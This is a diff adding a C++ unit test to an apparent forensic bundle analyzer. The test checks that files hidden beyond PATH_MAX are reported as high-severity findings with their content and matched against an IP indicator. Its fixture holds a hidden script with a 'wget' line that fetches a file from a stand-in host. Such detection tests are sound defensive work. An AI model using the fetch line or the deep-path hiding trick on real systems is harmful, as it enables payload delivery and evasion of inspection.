@@ -332,3 +332,32 @@ TEST_CASE("a field of an unexpected type reads as absent; the rest of its part i
   CHECK(has(r, "unreplied_flow", "172.18.0.10"));
   CHECK_FALSE(has(r, "unreplied_flow", "172.18.0.9"));
 }
+
+TEST_CASE("files the collector took from beyond PATH_MAX are high findings, with their content") {
+  temp_bundle b;
+  std::string deep = "tmp";
+  for (int i = 0; i < 20; ++i) deep += "/" + std::string(200, 'a');
+  b.write("manifest.json", json({{"container", {{"id", "abc"}, {"name", "web"}}}}).dump());
+  fs::create_directories(b.root / "filesystem");
+  write_tar(
+      b.root / "filesystem/deep-paths.tar",
+      {{deep, "", 0755, true}, {deep + "/stash.sh", "#!/bin/sh\nwget http://203.0.113.9/x\n"}});
+  b.seal();
+  analysis_options o;
+  o.iocs = ioc_set::parse("ip 203.0.113.9\n");
+  auto r = analyze_bundle(b.root, o);
+  CHECK(r.verification.status == "verified");
+  CHECK(has(r, "beyond_path_max", "/stash.sh", "filesystem/deep-paths.tar"));
+  CHECK(has(r, "ioc_match", "203.0.113.9", "filesystem/deep-paths.tar"));
+  for (const auto& f : r.findings) {
+    if (f.kind != "beyond_path_max") continue;
+    CHECK(f.level == severity::high);
+    CHECK(f.details["content_head"].get<std::string>().find("wget") != std::string::npos);
+    CHECK(f.details["path_bytes"] == deep.size() + 1 + 9);
+  }
+  // A bundle without one does not list it as missing: it is there only when needed.
+  temp_bundle plain;
+  auto r2 = analyze_bundle(plain.root);
+  CHECK(std::find(r2.files_missing.begin(), r2.files_missing.end(), "filesystem/deep-paths.tar") ==
+        r2.files_missing.end());
+}
